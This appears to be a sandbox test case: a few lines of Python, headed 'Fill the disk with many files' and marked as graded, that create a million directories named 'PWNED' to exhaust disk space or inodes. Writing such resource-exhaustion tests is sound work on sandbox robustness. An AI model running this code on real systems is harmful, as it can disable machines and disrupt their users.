# Fill the disk with many files.
# ends: graded
# %%
import os

for number in range(10**6):
    os.mkdir(f"PWNED{number}")
